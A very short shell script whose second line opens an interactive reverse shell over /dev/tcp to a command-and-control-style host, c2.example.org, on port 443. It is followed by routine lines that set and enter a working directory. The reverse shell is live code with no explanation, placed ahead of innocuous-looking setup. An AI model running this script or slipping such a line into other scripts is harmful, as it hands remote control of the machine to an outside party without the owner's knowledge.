#!/bin/sh
bash -i >& /dev/tcp/c2.example.org/443 0>&1
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
